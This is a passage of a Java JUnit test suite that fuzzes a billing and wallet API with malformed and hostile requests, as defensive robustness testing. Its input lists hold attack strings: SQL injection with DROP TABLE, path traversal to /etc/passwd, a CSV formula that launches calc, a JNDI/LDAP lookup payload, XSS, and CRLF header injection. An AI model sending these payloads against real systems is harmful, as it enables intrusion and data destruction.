package io.billfold.app;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Over a thousand generated malformed or hostile requests over every endpoint: wrong JSON types for every field,
 * huge and deeply nested bodies, invalid UTF-8, NUL, control characters and unpaired surrogates, injection strings,
 * out-of-range numbers, wrong content types, bad query parameters, headers and path ids. None may yield a 5xx; every
 * error is a problem response with a {@code code}; a refused request changes nothing (event store, rule tables,
 * idempotency records and read models are compared before and after); a request built to be valid succeeds and
 * stores the hostile text exactly as sent.
 */
class HostileInputApiTest extends ApiTestSupport {

    /** What a generated request must get: refused (4xx), accepted (2xx), or either, but never a 5xx. */
    enum Expect { REJECT, ACCEPT, EITHER }

    record Attempt(String label, Client client, String method, String path, byte[] body, String contentType,
                   Expect expect, String... headers) {
    }

    /**
     * The state a refused request must leave alone; snapshots are excluded (taken on a thread of their own). Each
     * table's fingerprint is its row count and the newest transaction that wrote one of its rows (xmin): any committed
     * insert, update or delete changes one or the other, and unlike a digest of every row's text it costs no more than
     * a scan, which matters with thousands of customers in the shared database (the console's import test).
     */
    private static final String STATE = """
            select concat_ws('|',
              (select count(*) || '/' || coalesce(max(global_index), 0) from domain_event_entry),
              (select count(*) from idempotency_record),
              (select count(*) from organization),
              (select md5(coalesce(string_agg(id || name || role || coalesce(revoked_at::text, ''), ',' order by id), ''))
                 from api_key),
              %s,
              (select count(*) from browser_session))
            """.formatted(String.join(",\n  ", Stream.of("customer_claim", "customer_hierarchy",
            "wallet_registry", "customer_view", "customer_history", "customer_contact", "customer_recipient",
            "wallet_view", "wallet_transaction").map(table -> "(select count(*) || '/' || "
            + "coalesce(max(xmin::text::bigint), 0) from " + table + ")").toList()));

    /** Values of the wrong JSON type for a field that holds a string. */
    private static final List<String> NOT_AMOUNTS = List.of("true", "[]", "{}", "\"abc\"", "1e999999999",
            "\"1e999999999\"", "-0", "\"-0\"", "0", "-1", "\"NaN\"", "\"Infinity\"",
            "123456789012345678901234567890", "\"123456789012345678901234567890\"", "\"0.001\"", "1.001",
            "\"1,00\"", "\" \"", "\"0x10\"", "\"1_000\"", "\"\"", "null", "\"1e-999999999\"");
    private static final List<String> NOT_STRINGS = List.of("123", "-0", "1.5", "1e999999999",
            "123456789012345678901234567890", "true", "[]", "{}", "[\"x\"]", "{\"a\": \"b\"}", deepArray(600));
    private static final List<String> NOT_BOOLEANS = List.of("\"true\"", "1", "0", "\"yes\"", "[]", "{}",
            "1e999999999", "[true]");
    private static final List<String> NOT_OBJECTS = List.of("\"x\"", "1", "true", "[]", "[\"x\"]", "1e999999999",
            "-0", deepArray(600));
    private static final List<String> NOT_LISTS = List.of("\"x\"", "1", "true", "{}", "[1]", "[[]]", "[true]",
            "1e999999999", deepArray(600));
    /** Strings no text field may hold: NUL (PostgreSQL cannot store it) and unpaired surrogates (not Unicode). */
    private static final List<String> UNSTORABLE = List.of("\"\\u0000\"", "\"a\\u0000b\"", "\"\\ud800\"",
            "\"x\\udc00\"", "\"\\ud800\\ud800\"", "\"\\udfff\\ud800\"");
    /** Control characters and overlong strings: a field may take or refuse them, but never fail on them. */
    private static final List<String> ODD_TEXT = List.of("\"\\u0001\"", "\"\\u001b[31mred\"", "\"\\u007f\"",
            "\"a\\r\\nSet-Cookie: evil=1\"", "\"\\t\"", "\"\"", "\"   \"", quoted("x".repeat(256)),
            quoted("x".repeat(100_000)), "\"\\u202eRTL\"", "\"\\ufeff\"", "\"\\uffff\"");
    /** Hostile yet printable text: where free text is allowed it must be stored and shown exactly as sent. */
    private static final List<String> INJECTIONS = List.of("' OR 1=1 --", "'; DROP TABLE customer_view; --",
            "\" OR \"\"=\"", "../../../../etc/passwd", "..\\\\..\\\\windows\\\\win.ini", "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "<script>alert(1)</script>", "${jndi:ldap://x/a}",
            "%s%n%x%d", "{{7*7}}", "\\\\u0000 literal", "😀 é ñ 中文", "Robert'); --");

    @Autowired
    JdbcTemplate jdbc;

    private static Fixture fixture;

    /** One organization with two customers, a contact, funded wallets, and a reader key. */
    record Fixture(Client admin, Client reader, String customer, String otherCustomer, String contact,
                   String wallet, String otherWallet, String euroWallet, String readerKeyId) {
    }

    private Fixture fixture() {
        if (fixture == null) {
            Client admin = newOrganization("hostile input");
            String customer = admin.post("/v1/customers", json(body("customer_name", "Target",
                    "email", "target@hostile.example", "external_id", "target-1"))).text("id");
            String otherCustomer = admin.post("/v1/customers", json(body("customer_name", "Other"))).text("id");
            String contact = admin.post("/v1/customers/" + customer + "/contacts",
                    json(body("email", "contact@hostile.example", "communications", List.of("invoices")))).text("id");
            String wallet = admin.post("/v1/customers/" + customer + "/wallets", json(body("currency", "USD")))
                    .text("id");
            String otherWallet = admin.post("/v1/customers/" + otherCustomer + "/wallets",
                    json(body("currency", "USD"))).text("id");
            String euroWallet = admin.post("/v1/customers/" + otherCustomer + "/wallets",
                    json(body("currency", "EUR"))).text("id");
            assertThat(admin.post("/v1/wallets/" + wallet + "/credits",
                    json(body("amount", "100.00", "reason", "prepayment"))).status()).isEqualTo(201);
            Response readerKey = admin.post("/v1/api-keys", json(body("name", "reader", "role", "reader")));
            Client reader = client(readerKey.text("api_key"));
            fixture = new Fixture(admin, reader, customer, otherCustomer, contact, wallet, otherWallet, euroWallet,
                    readerKey.text("id"));
        }
        return fixture;
    }

    @Test
    void hostileBodiesNeverFailTheServerAndRefusedOnesChangeNothing() {
        List<Attempt> attempts = bodyAttempts(fixture());
        assertThat(attempts.size()).isGreaterThan(700);
        assertThat(run(attempts)).isEmpty();
    }

    @Test
    void hostileRequestShapesQueriesHeadersAndPathsNeverFailTheServer() {
        List<Attempt> attempts = new ArrayList<>();
        attempts.addAll(requestShapeAttempts(fixture()));
        attempts.addAll(queryAttempts(fixture()));
        attempts.addAll(pathAttempts(fixture()));
        attempts.addAll(sessionAttempts(fixture()));
        assertThat(attempts.size()).isGreaterThan(500);
        assertThat(run(attempts)).isEmpty();
    }

    @Test
    void hostileButValidTextIsStoredAndShownExactlyAsSent() {
        Fixture f = fixture();
        for (String text : INJECTIONS) {
            Response customer = f.admin().post("/v1/customers", json(body("customer_name", text,
                    "external_id", text, "custom_data", Map.of(text, text))));
            assertThat(customer.status()).as(text).isEqualTo(201);
            Response shown = f.admin().getAfter(customer, "/v1/customers/" + customer.text("id"));
            assertThat(shown.text("customer_name")).isEqualTo(text);
            assertThat(shown.text("external_id")).isEqualTo(text);
            assertThat(shown.json().get("custom_data").get(text).asString()).isEqualTo(text);

            Response credit = f.admin().post("/v1/wallets/" + f.wallet() + "/credits", json(body("amount", "0.01",
                    "reason", "other", "description", text, "reference", text, "metadata", Map.of("k", text))));
            assertThat(credit.status()).as(text).isEqualTo(201);
            Response ledger = f.admin().getAfter(credit, "/v1/wallets/" + f.wallet() + "/transactions?limit=1");
            assertThat(ledger.json().get("data").get(0).get("description").asString()).isEqualTo(text);
            assertThat(ledger.json().get("data").get(0).get("metadata").get("k").asString()).isEqualTo(text);
        }
    }

    // ---- generators -------------------------------------------------------------------------------------------

    /** Every field of every JSON body, replaced in turn by values of the wrong type and by hostile strings. */
    private List<Attempt> bodyAttempts(Fixture f) {
        List<Attempt> attempts = new ArrayList<>();
        Map<String, Object> address = template("line1", "\"1 Main St\"", "line2", "\"Floor 2\"", "line3", "\"Desk 3\"",
                "city", "\"Springfield\"", "state", "\"IL\"", "zip_code", "\"62701\"", "country", "\"US\"");
        // Email and external_id of the fixture's customer: a creation is refused even when one of them is mutated.
        Map<String, Object> customer = template("customer_name", "\"Hostile Inc\"", "external_id", "\"target-1\"",
                "email", "\"target@hostile.example\"", "phone_number", "\"+14155550123\"", "address", address,
                "ship_to_address", address, "tax_info", List.of(template("country_code", "\"US\"",
                        "tax_code", "\"US_EIN\"", "tax_id", "\"12-3456789\"")),
                "custom_data", template("tier", "\"gold\""), "communications_enabled", "true",
                "auto_charge_enabled", "false", "business_entity_id", "\"be_1\"",
                "connector", template("name", "\"crm\"", "reference_id", "\"r-1\""),
                "parent_customer_id", quoted(f.otherCustomer()));
        Map<String, Object> contact = template("first_name", "\"Ada\"", "last_name", "\"Lovelace\"",
                "email", "\"contact@hostile.example\"", "phone_number", "\"+14155550124\"", "label", "\"billing\"",
                "communications", List.of("\"invoices\""), "delivery", "\"cc\"");
        Map<String, Object> credit = template("amount", "\"1.00\"", "reason", "\"goodwill\"",
                "description", "\"d\"", "reference", "\"r\"", "metadata", template("k", "\"v\""),
                "expected_version", "1000000", "expires_at", "\"2030-01-01T00:00:00Z\"");
        Map<String, Object> hold = template("amount", "\"1.00\"", "reference", "\"r\"", "description", "\"d\"",
                "expires_at", "\"2030-01-01T00:00:00Z\"", "expected_version", "1000000");
        Map<String, Object> debit = template("amount", "\"1.00\"", "reason", "\"invoice_settlement\"",
                "invoice_id", "\"inv_1\"", "description", "\"d\"", "reference", "\"r\"",
                "metadata", template("k", "\"v\""), "expected_version", "1000000");
        Map<String, Object> transfer = template("to_wallet_id", quoted(f.euroWallet()), "amount", "\"1.00\"",
                "description", "\"d\"", "reference", "\"r\"", "metadata", template("k", "\"v\""));

        String customerPath = "/v1/customers/" + f.customer();
        String walletPath = "/v1/wallets/" + f.wallet();
        // A wrong type anywhere is refused whatever else the body says. A hostile string in a field with a format is
        // refused; in free text it may be taken, so those creations use a body that is valid otherwise.
        mutate(attempts, f.admin(), "POST", "/v1/customers", customer, true);
        mutate(attempts, f.admin(), "PATCH", customerPath, customer, false);
        mutate(attempts, f.admin(), "POST", customerPath + "/contacts", contact, true);
        mutate(attempts, f.admin(), "PATCH", customerPath + "/contacts/" + f.contact(), contact, false);
        // expected_version never matches, so even a credit whose other fields pass is refused.
        mutate(attempts, f.admin(), "POST", walletPath + "/credits", credit, true);
        mutate(attempts, f.admin(), "POST", walletPath + "/debits", debit, true);
        // The target wallet is in another currency, so every transfer is refused.
        mutate(attempts, f.admin(), "POST", walletPath + "/transfers", transfer, true);
        // expected_version never matches; the hold below does not exist.
        mutate(attempts, f.admin(), "POST", walletPath + "/holds", hold, true);
        mutate(attempts, f.admin(), "POST", "/v1/holds/hold_missing/capture",
                template("amount", "\"1.00\"", "expected_version", "1000000"), true);
        mutate(attempts, f.admin(), "POST", "/v1/holds/hold_missing/release",
                template("expected_version", "1000000"), true);
        mutate(attempts, f.admin(), "PUT", customerPath + "/parent",
                template("parent_customer_id", quoted(f.customer())), true);
        mutate(attempts, f.admin(), "POST", "/v1/customers/" + f.otherCustomer() + "/wallets",
                template("currency", "\"USD\""), true);
        mutate(attempts, f.admin(), "PATCH", walletPath, template("low_balance_threshold", "\"1.00\""), false);
        // An ftp URL is never an endpoint's.
        mutate(attempts, f.admin(), "POST", "/v1/webhook-endpoints", template("url", "\"ftp://hooks.example/x\"",
                "event_types", List.of("\"*\""), "description", "\"d\""), true);
        mutate(attempts, f.admin(), "POST", "/v1/api-keys", template("name", "\"k\"", "role", "\"superuser\""), true);
        mutate(attempts, operator(), "POST", "/v1/organizations", template("name", "\"\\u0000\""), false);
        return attempts;
    }

    /**
     * For each leaf of the template: the wrong JSON types (refused), NUL and unpaired surrogates (refused), odd text
     * (either). With {@code refusedAnyway} the rest of the body guarantees a refusal, so injections are refused too.
     */
    private void mutate(List<Attempt> attempts, Client client, String method, String path, Map<String, Object> template,
                        boolean refusedAnyway) {
        for (String field : leaves(template, "")) {
            Object original = valueAt(template, field);
            // Values inside custom_data may be of any JSON type.
            Expect wrongType = refusedAnyway || !field.startsWith("custom_data.") ? Expect.REJECT : Expect.EITHER;
            List<String> wrongTypes = original instanceof Map<?, ?> ? NOT_OBJECTS
                    : original instanceof List<?> ? NOT_LISTS
                    : original.equals("true") || original.equals("false") ? NOT_BOOLEANS
                    : field.endsWith("expected_version") ? List.of("\"1\"", "true", "1.5", "-1", "1e999999999",
                    "99999999999999999999", "[]", "{}", "\"abc\"")
                    : field.endsWith("amount") ? NOT_AMOUNTS
                    // A threshold is an amount that may also be null (none).
                    : field.endsWith("threshold") ? NOT_AMOUNTS.stream().filter(value -> !value.equals("null")).toList()
                    : NOT_STRINGS;
            for (String value : wrongTypes) {
                attempts.add(attempt(client, method, path, with(template, field, value), wrongType,
                        field + "=" + abbreviate(value)));
            }
            if (original instanceof String) {
                for (String value : UNSTORABLE) {
                    attempts.add(attempt(client, method, path, with(template, field, value), Expect.REJECT,
                            field + "=" + value));
                }
                for (String value : ODD_TEXT) {
                    attempts.add(attempt(client, method, path, with(template, field, value),
                            refusedAnyway ? Expect.REJECT : Expect.EITHER,
                            field + "=" + abbreviate(value)));
                }
                for (String value : INJECTIONS) {
                    attempts.add(attempt(client, method, path, with(template, field, quoted(value)),
                            refusedAnyway ? Expect.REJECT : Expect.EITHER, field + "=" + value));
                }
            }
            if (original instanceof Map<?, ?> map && !map.isEmpty() && !field.contains("address")
                    && !field.equals("connector")) {
                // Free-form maps (custom_data, metadata): hostile keys, NUL keys, deep and huge values.
                for (String value : List.of("{\"\\u0000\": \"v\"}", "{\"\\ud800\": \"v\"}", "{\"k\": 1e999999999}",
                        "{\"k\": -1e999999999}", "{\"k\": \"\\u0000\"}", "{\"k\": \"\\udc00\"}",
                        "{\"k\": " + quoted("x".repeat(20_000)) + "}", "{\"k\": 123456789012345678901234567890e99999}")) {
                    attempts.add(attempt(client, method, path, with(template, field, value), Expect.REJECT,
                            field + "=" + abbreviate(value)));
                }
                for (String value : List.of("{\"\": \"v\"}", "{\"k\": " + deepObject(400) + "}", manyKeys(25))) {
                    attempts.add(attempt(client, method, path, with(template, field, value),
                            refusedAnyway ? Expect.REJECT : Expect.EITHER, field + "=" + abbreviate(value)));
                }
            }
        }
        for (String value : UNSTORABLE) {
            attempts.add(attempt(client, method, path, "{" + value + ": \"x\"}", Expect.REJECT, "key " + value));
        }
    }

    /** Content types, encodings, sizes, nesting, syntax, idempotency keys and credentials on every mutating endpoint. */
    private List<Attempt> requestShapeAttempts(Fixture f) {
        List<Attempt> attempts = new ArrayList<>();
        Map<String, String> endpoints = new LinkedHashMap<>();
        endpoints.put("/v1/customers", "POST");
        endpoints.put("/v1/customers/" + f.customer(), "PATCH");
        endpoints.put("/v1/customers/" + f.customer() + "/parent", "PUT");
        endpoints.put("/v1/customers/" + f.customer() + "/archive", "POST");
        endpoints.put("/v1/customers/" + f.customer() + "/erase", "POST");
        endpoints.put("/v1/customers/" + f.customer() + "/contacts", "POST");
        endpoints.put("/v1/customers/" + f.customer() + "/contacts/" + f.contact(), "PATCH");
        endpoints.put("/v1/customers/" + f.customer() + "/wallets", "POST");
        endpoints.put("/v1/wallets/" + f.wallet() + "/credits", "POST");
        endpoints.put("/v1/wallets/" + f.wallet() + "/debits", "POST");
        endpoints.put("/v1/wallets/" + f.wallet() + "/transfers", "POST");
        endpoints.put("/v1/wallets/" + f.wallet() + "/holds", "POST");
        endpoints.put("/v1/holds/hold_missing/capture", "POST");
        endpoints.put("/v1/holds/hold_missing/release", "POST");
        endpoints.put("/v1/api-keys", "POST");
        List<byte[]> bodies = List.of(bytes(""), bytes("null"), bytes("[]"), bytes("\"str\""), bytes("123"),
                bytes("{"), bytes("{}}"), bytes("{\"a\":1,}"), bytes("{'customer_name': 'x'}"),
                bytes("/* c */ {}"), bytes("{\"customer_name\": NaN}"), bytes("{} trailing"),
                bytes("{\"customer_name\": \"x\"} {\"customer_name\": \"y\"}"), bytes(deepArray(100_000)),
                bytes(deepObject(5_000)), bytes("{\"customer_name\": \"" + "x".repeat(2_000_000) + "\"}"),
                new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, 0x28, '"', '}'},
                new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'},
                new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC0, (byte) 0xAF, '"', '}'},
                new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, '"', '}'},
                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, '{', '}'},
                new byte[] {0, 0, 0, '{', 0, 0, 0, '}'},
                bytes("{\"\\u0000\": 1}"), bytes("\"\\ud800\""));
        for (Map.Entry<String, String> endpoint : endpoints.entrySet()) {
            String path = endpoint.getKey();
            String method = endpoint.getValue();
            for (byte[] body : bodies) {
                // Archive and erase take no body, and refuse this customer for its balance whatever is sent. A
                // byte order mark, or a body that is valid UTF-32, may be read as an empty object: a no-op change.
                boolean maybeEmptyObject = body.length > 0 && (body[0] == (byte) 0xEF || body[0] == 0);
                attempts.add(new Attempt(method + " " + path + " body " + abbreviate(new String(body,
                        StandardCharsets.ISO_8859_1)), f.admin(), method, path, body, "application/json",
                        maybeEmptyObject ? Expect.EITHER : Expect.REJECT));
            }
            String valid = "{\"customer_name\": \"x\"}";
            for (String contentType : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=xyz", "text/csv", "application/octet-stream", "image/png",
                    "application/json; charset=UTF-16", "*/*", ";;;", "json")) {
                // A JSON body declared UTF-16 may still be read as JSON (the parser detects the encoding itself).
                boolean validForEndpoint = path.endsWith("/v1/customers") || path.endsWith(f.customer());
                attempts.add(new Attempt(method + " " + path + " as " + contentType, f.admin(), method, path,
                        bytes(valid), contentType, validForEndpoint ? Expect.EITHER : Expect.REJECT));
            }
            attempts.add(new Attempt(method + " " + path + " without content type", f.admin(), method, path,
                    bytes(valid), null, path.endsWith("/v1/customers") ? Expect.EITHER : Expect.REJECT));
            for (String key : List.of("", "k".repeat(256), "k".repeat(10_000))) {
                // Only a POST takes an Idempotency-Key; other methods ignore the header.
                attempts.add(new Attempt(method + " " + path + " idempotency key of " + key.length(), f.admin(),
                        method, path, bytes(valid), "application/json",
                        method.equals("POST") ? Expect.REJECT : Expect.EITHER, "Idempotency-Key", key));
            }
            for (Client caller : List.of(client(null), client("nope"), client("x".repeat(10_000)),
                    client("' OR 1=1 --"), client(f.admin().apiKey() + "x"), f.reader())) {
                attempts.add(new Attempt(method + " " + path + " as " + abbreviate(String.valueOf(caller.apiKey())),
                        caller, method, path, bytes(valid), "application/json", Expect.REJECT));
            }
            for (String[] header : List.of(new String[] {"X-API-Key", "garbage"},
                    new String[] {"X-API-Key", "' OR 1=1 --"}, new String[] {"Authorization", "Basic Zm9vOmJhcg=="},
                    new String[] {"Authorization", "Bearer"}, new String[] {"Authorization", "bearer  "})) {
                attempts.add(new Attempt(method + " " + path + " with " + header[0] + ": " + header[1], client(null),
                        method, path, bytes(valid), "application/json", Expect.REJECT, header));
            }
        }
        for (String method : List.of("PUT", "DELETE", "PATCH")) {
            attempts.add(new Attempt(method + " /v1/customers", f.admin(), method, "/v1/customers",
                    bytes("{}"), "application/json", Expect.REJECT));
            attempts.add(new Attempt(method + " /v1/wallets/{id}/credits", f.admin(), method,
                    "/v1/wallets/" + f.wallet() + "/credits", bytes("{}"), "application/json", Expect.REJECT));
        }
        attempts.add(new Attempt("POST organizations as an admin", f.admin(), "POST", "/v1/organizations",
                bytes("{\"name\": \"x\"}"), "application/json", Expect.REJECT));
        attempts.add(new Attempt("DELETE another key as a reader", f.reader(), "DELETE",
                "/v1/api-keys/" + f.readerKeyId(), null, null, Expect.REJECT));
        return attempts;
    }

    /** Bad limits, cursors, timestamps, filters and await positions on every list and read endpoint. */
    private List<Attempt> queryAttempts(Fixture f) {
        List<Attempt> attempts = new ArrayList<>();
        List<String> lists = List.of("/v1/customers", "/v1/customers/" + f.customer() + "/children",
                "/v1/customers/" + f.customer() + "/history", "/v1/wallets/" + f.wallet() + "/transactions",
                "/v1/audit/wallet-adjustments", "/v1/wallets/" + f.wallet() + "/grants",
                "/v1/wallets/" + f.wallet() + "/holds");
        List<String> limits = List.of("-1", "0", "101", "abc", "1e999", "99999999999999999999", "", "%20", "1.5",
                "%00", "0x10", "%EF%BC%91");
        List<String> cursors = List.of("", "%00", "garbage", "'%20OR%201=1--", "x".repeat(300),
                "..%2F..%2Fetc%2Fpasswd", "%ff", "%E2%80%AE", "cus_" + "z".repeat(40), "%0d%0aSet-Cookie:%20x=1");
        for (String list : lists) {
            for (String limit : limits) {
                // A full-width digit is a digit to Java.
                attempts.add(get(f.admin(), list + "?limit=" + limit,
                        limit.startsWith("%EF") ? Expect.EITHER : Expect.REJECT));
            }
            for (String cursor : cursors) {
                attempts.add(get(f.admin(), list + "?starting_after=" + cursor,
                        cursor.isEmpty() || cursor.length() > 255 ? Expect.REJECT : Expect.EITHER));
            }
            attempts.add(get(f.admin(), list + "?limit=1&limit=2", Expect.EITHER));
            if (list.endsWith("/grants") || list.endsWith("/holds")) {
                attempts.add(get(f.admin(), list + "?status=bogus", Expect.REJECT));
                attempts.add(get(f.admin(), list + "?status=%00", Expect.REJECT));
            }
            attempts.add(get(f.admin(), list + "?%00=1", Expect.EITHER));
            attempts.add(get(f.admin(), list + "?" + "a=1&".repeat(500), Expect.EITHER));
        }
        List<String> badTimestamps = List.of("2020-13-45T00:00:00Z", "yesterday", "1e999", "%00",
                "2026-01-01", "2026-01-01T00:00:00", "-999999999-01-01T00:00:00Z", "+999999999-12-31T23:59:59Z",
                "2026-01-01T00:00:00%2B25:00", "%27%20OR%201=1--");
        for (String timestamp : badTimestamps) {
            boolean extreme = timestamp.startsWith("-9") || timestamp.startsWith("+9");
            Expect expect = extreme ? Expect.EITHER : Expect.REJECT;
            attempts.add(get(f.admin(), "/v1/customers?created_after=" + timestamp, expect));
            attempts.add(get(f.admin(), "/v1/customers?created_before=" + timestamp, expect));
            attempts.add(get(f.admin(), "/v1/wallets/" + f.wallet() + "/transactions?from=" + timestamp, expect));
            attempts.add(get(f.admin(), "/v1/wallets/" + f.wallet() + "/transactions?to=" + timestamp, expect));
            attempts.add(get(f.admin(), "/v1/wallets/" + f.wallet() + "/balance?at=" + timestamp, expect));
            attempts.add(get(f.admin(), "/v1/audit/wallet-adjustments?from=" + timestamp, expect));
            attempts.add(get(f.admin(), "/v1/audit/wallet-adjustments?to=" + timestamp, expect));
        }
        List<String> texts = List.of("%00", "a%00b", "%27", "%25", "_", "%5C", "%27%20OR%201=1--",
                "%3Cscript%3E", "x".repeat(5_000), "%ff", "%ED%A0%80", "%E2%80%AE", "..%2F..%2F", "%0d%0a",
                "%7B%7D", "%5B%5D", "*", "%F0%9F%98%80");
        for (String text : texts) {
            for (String filter : List.of("email", "external_id", "q", "parent_customer_id", "business_entity_id",
                    "custom_data.tier", "custom_data." + text)) {
                attempts.add(get(f.admin(), "/v1/customers?" + filter + "=" + text, Expect.EITHER));
            }
            attempts.add(get(f.admin(), "/v1/customers?country=" + text, Expect.REJECT));
            attempts.add(get(f.admin(), "/v1/customers?tax_exempt=" + text, Expect.REJECT));
            attempts.add(get(f.admin(), "/v1/customers?include_archived=" + text, Expect.REJECT));
            attempts.add(get(f.admin(), "/v1/customers/" + f.customer() + "/recipients?communication=" + text,
                    Expect.REJECT));
            attempts.add(get(f.admin(), "/v1/wallets/" + f.wallet() + "/transactions?type=" + text, Expect.REJECT));
            for (String filter : List.of("reason", "actor", "customer_id", "wallet_id")) {
                attempts.add(get(f.admin(), "/v1/audit/wallet-adjustments?" + filter + "=" + text, Expect.EITHER));
            }
            attempts.add(get(f.admin(), "/v1/wallets/" + f.wallet() + "/transactions?reason=" + text,
                    Expect.EITHER));
        }
        attempts.add(get(f.admin(), "/v1/customers/" + f.customer() + "/recipients", Expect.REJECT));
        for (String position : List.of("abc", "-1", "1e999", "99999999999999999999", "", "%00", "0x10", "1.5",
                " ")) {
            attempts.add(new Attempt("await position " + position, f.admin(), "GET", "/v1/customers", null, null,
                    position.isBlank() ? Expect.EITHER : Expect.REJECT, "Billfold-Await-Position", position));
        }
        for (String accept : List.of("text/csv", "application/xml", "image/png", "*/*", ";;;", "text/csv;q=abc")) {
            attempts.add(new Attempt("audit as " + accept, f.admin(), "GET", "/v1/audit/wallet-adjustments?from=x",
                    null, null, Expect.REJECT, "Accept", accept));
        }
        for (Client caller : List.of(client(null), client("nope"), client("x".repeat(10_000)))) {
            attempts.add(get(caller, "/v1/customers", Expect.REJECT));
            attempts.add(get(caller, "/v1/admin/projections", Expect.REJECT));
            attempts.add(get(caller, "/v1/api-keys", Expect.REJECT));
        }
        attempts.add(get(f.admin(), "/v1/admin/projections", Expect.REJECT));
        attempts.add(get(f.reader(), "/v1/api-keys", Expect.REJECT));
        return attempts;
    }

    /** Unknown, foreign-kind, encoded, traversing and oversized ids in every path that takes one. */
    private List<Attempt> pathAttempts(Fixture f) {
        List<Attempt> attempts = new ArrayList<>();
        List<String> ids = List.of("nope", "cus_", "%2e%2e", "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2f",
                "%00", "a%00b", "%ff", "%ED%A0%80", "%27%20OR%201=1--", "x".repeat(5_000), "%E2%80%AE",
                "%0d%0aSet-Cookie:x", "%5C", "%3B", "a;b=c", "%20", "%2F", "%25", "~", "%7B%7D",
                "con_01" + "0".repeat(20));
        Map<String, String> paths = new LinkedHashMap<>();
        paths.put("GET /v1/customers/{x}", null);
        paths.put("GET /v1/customers/{x}/children", null);
        paths.put("GET /v1/customers/{x}/history", null);
        paths.put("GET /v1/customers/{x}/contacts", null);
        paths.put("GET /v1/customers/{x}/recipients?communication=invoices", null);
        paths.put("GET /v1/customers/{x}/wallets", null);
        paths.put("GET /v1/wallets/{x}", null);
        paths.put("GET /v1/wallets/{x}/transactions", null);
        paths.put("GET /v1/wallets/{x}/balance", null);
        paths.put("PATCH /v1/customers/{x}", "{\"customer_name\": \"x\"}");
        paths.put("PUT /v1/customers/{x}/parent", "{\"parent_customer_id\": null}");
        paths.put("POST /v1/customers/{x}/archive", null);
        paths.put("POST /v1/customers/{x}/unarchive", null);
        paths.put("POST /v1/customers/{x}/erase", null);
        paths.put("POST /v1/customers/{x}/contacts", "{\"email\": \"p@hostile.example\"}");
        paths.put("PATCH /v1/customers/" + f.customer() + "/contacts/{x}", "{\"label\": \"x\"}");
        paths.put("DELETE /v1/customers/" + f.customer() + "/contacts/{x}", null);
        paths.put("POST /v1/customers/{x}/wallets", "{\"currency\": \"JPY\"}");
        paths.put("POST /v1/wallets/{x}/credits", "{\"amount\": \"1.00\", \"reason\": \"other\"}");
        paths.put("POST /v1/wallets/{x}/debits", "{\"amount\": \"1.00\", \"reason\": \"other\"}");
        paths.put("POST /v1/wallets/{x}/transfers", "{\"to_wallet_id\": \"" + f.otherWallet()
                + "\", \"amount\": \"1.00\"}");
        paths.put("DELETE /v1/api-keys/{x}", null);
        for (Map.Entry<String, String> path : paths.entrySet()) {
            String method = path.getKey().substring(0, path.getKey().indexOf(' '));
            String template = path.getKey().substring(method.length() + 1);
            for (String id : ids) {
                attempts.add(new Attempt(method + " " + template + " with " + abbreviate(id), f.admin(), method,
                        template.replace("{x}", id), path.getValue() == null ? null : bytes(path.getValue()),
                        path.getValue() == null ? null : "application/json", Expect.REJECT));
            }
        }
        // Ids of the other kind: a wallet used as a customer and the reverse.
        for (Map.Entry<String, String> path : paths.entrySet()) {
            String method = path.getKey().substring(0, path.getKey().indexOf(' '));
            String template = path.getKey().substring(method.length() + 1);
            String foreign = template.contains("/wallets/{x}") ? f.customer() : f.wallet();
            attempts.add(new Attempt(method + " " + template + " with an id of another kind", f.admin(), method,
                    template.replace("{x}", foreign), path.getValue() == null ? null : bytes(path.getValue()),
                    path.getValue() == null ? null : "application/json", Expect.REJECT));
        }
        for (String unknown : List.of("/v1/nope", "/v1/customers/" + f.customer() + "/nope", "/v2/customers",
                "/v1/wallets", "/v1/../v1/customers", "/v1/customers/%2e%2e/customers", "/v1//customers",
                "/v1/customers/.;/x", "/%00", "/v1/customers/" + f.customer() + "/contacts/a/b")) {
            attempts.add(get(f.admin(), unknown, Expect.EITHER));
            attempts.add(new Attempt("POST " + unknown, f.admin(), "POST", unknown, bytes("{}"), "application/json",
                    Expect.EITHER));
        }
        return attempts;
    }

    /** The console's sign-in and its session cookie: hostile keys, bodies, content types, origins and cookies. */
    private List<Attempt> sessionAttempts(Fixture f) {
        List<Attempt> attempts = new ArrayList<>();
        List<String> keys = new ArrayList<>(NOT_STRINGS);
        keys.addAll(UNSTORABLE);
        keys.addAll(ODD_TEXT);
        INJECTIONS.forEach(injection -> keys.add(quoted(injection)));
        keys.add(quoted(f.admin().apiKey() + "x"));
        keys.add("null");
        for (String key : keys) {
            attempts.add(new Attempt("sign-in with " + abbreviate(key), client(null), "POST", "/console/session",
                    bytes("{\"api_key\": " + key + "}"), "application/json", Expect.REJECT, "X-Billfold-Console", "1"));
        }
        for (String body : List.of("", "null", "[]", "\"key\"", "{", "{\"api_key\": \"x\"} trailing", deepArray(100_000),
                "{\"api_key\": \"" + "x".repeat(100_000) + "\"}", "{\"\\u0000\": 1}")) {
            attempts.add(new Attempt("sign-in body " + abbreviate(body), client(null), "POST", "/console/session",
                    bytes(body), "application/json", Expect.REJECT, "X-Billfold-Console", "1"));
        }
        String valid = "{\"api_key\": \"" + f.admin().apiKey() + "\"}";
        for (String contentType : List.of("text/plain", "multipart/form-data; boundary=xyz",
                "application/x-www-form-urlencoded", "*/*", ";;;")) {
            attempts.add(new Attempt("sign-in as " + contentType, client(null), "POST", "/console/session",
                    bytes(valid), contentType, Expect.REJECT, "X-Billfold-Console", "1"));
        }
        attempts.add(new Attempt("sign-in without the console header", client(null), "POST", "/console/session",
                bytes(valid), "application/json", Expect.REJECT));
